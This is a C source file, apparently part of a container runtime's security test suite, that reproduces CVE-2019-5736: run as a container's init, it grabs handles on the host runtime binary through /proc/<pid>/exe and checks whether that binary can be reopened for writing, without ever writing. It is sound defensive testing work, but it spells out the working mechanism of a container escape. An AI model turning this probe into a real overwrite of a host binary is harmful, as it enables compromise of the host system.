/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * exe-overwrite: CVE-2019-5736. Runs as the container's init in an image whose /attacks/evil-sh is the script
 * "#!/proc/self/exe". When the operator runs `hull exec ID /attacks/evil-sh`, the kernel resolves the
 * interpreter /proc/self/exe in the joining process, which is hull itself: without protection the host's hull
 * binary is executed inside the container, and its /proc/<pid>/exe names the host binary. This init scans /proc
 * in a tight loop, keeps an O_PATH handle on the exe of every new process, and once that process has exited
 * tries to reopen each handle for writing (retrying while the kernel says ETXTBSY). It never writes.
 *
 * Prints "ready" when it scans; stops when /tmp/done exists (the runner creates it through
 * /proc/<pid>/root/tmp/done after its exec attempts) or after 60 s. ALLOWED if a handle to a file that is not
 * inside the container (the host's runtime binary) could be opened for writing. Refused if every exe handle was
 * denied (EACCES: the process was not dumpable), was a sealed memfd copy, or stayed unwritable (ETXTBSY, EPERM,
 * EACCES, EROFS).
 */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <time.h>

#define MAX_SEEN 4096

struct seen {
	int pid;
	int fd; /* O_PATH fd of its exe, or -1 */
	char target[256];
};

static struct seen seen[MAX_SEEN];
static int nseen, denied, memfds, inside, host_handles;
static int last_denied_err;

static bool is_seen(int pid)
{
	for (int i = 0; i < nseen; i++)
		if (seen[i].pid == pid)
			return true;
	return false;
}

static void grab(int pid)
{
	char path[64];
	if (nseen == MAX_SEEN)
		return;
	struct seen *s = &seen[nseen++];
	s->pid = pid;
	s->fd = -1;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	s->fd = open(path, O_PATH | O_CLOEXEC);
	if (s->fd < 0) {
		if (errno == EACCES || errno == EPERM) {
			denied++;
			last_denied_err = errno;
		}
		return;
	}
	ssize_t n = readlink(path, s->target, sizeof(s->target) - 1);
	s->target[n > 0 ? n : 0] = 0;
}

static long now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

int main(void)
{
	int self = getpid();
	long start = now_ms();
	struct stat st;

	puts("ready");
	fflush(stdout);
	while (now_ms() - start < 60000) {
		if (stat("/tmp/done", &st) == 0)
			break;
		DIR *d = opendir("/proc");
		if (!d)
			attack_error("opendir /proc: %s", errno_name(errno));
		struct dirent *e;
		while ((e = readdir(d))) {
			if (e->d_name[0] < '1' || e->d_name[0] > '9')
				continue;
			int pid = atoi(e->d_name);
			if (pid != self && !is_seen(pid))
				grab(pid);
		}
		closedir(d);
	}
	step("saw %d processes; %d exe handles denied (%s)", nseen, denied, errno_name(last_denied_err));

	/* Every exec'd process has exited by now (the runner waited for each `hull exec`). */
	char why[512] = "";
	for (int i = 0; i < nseen; i++) {
		struct seen *s = &seen[i];
		if (s->fd < 0)
			continue;
		if (!strncmp(s->target, "/memfd:", 7)) {
			memfds++;
			step("pid %d: exe is a memfd copy (%s)", s->pid, s->target);
			continue;
		}
		struct stat a, b;
		if (fstat(s->fd, &a) == 0 && stat(s->target, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino) {
			inside++;
			continue; /* a binary of the container, e.g. /attacks/... itself */
		}
		host_handles++;
		step("pid %d: exe %s is not a file of the container", s->pid, s->target);
		char fdpath[64];
		snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", s->fd);
		int fd = -1, err = 0;
		for (int t = 0; t < 100; t++) {
			fd = open(fdpath, O_WRONLY | O_CLOEXEC);
			err = errno;
			if (fd >= 0 || err != ETXTBSY)
				break;
			usleep(20000);
		}
		if (fd >= 0)
			allowed("the host file %s (exe of pid %d) opened for writing (not written)", s->target, s->pid);
		errlist_add(why, sizeof(why), s->target,
		            expect_errno("reopen exe for writing", -1, err, ETXTBSY, EPERM, EACCES, EROFS));
	}
	if (nseen == 0)
		attack_error("no exec'd process was seen");
	if (host_handles == 0 && denied == 0 && memfds == 0)
		attack_error("saw %d processes but none was the runtime (%d were container binaries)", nseen, inside);
	refused("%d processes: %d exe handles denied, %d memfd copies, %d container binaries, %d host files not "
	        "writable%s%s",
	        nseen, denied, memfds, inside, host_handles, why[0] ? ": " : "", why);
}
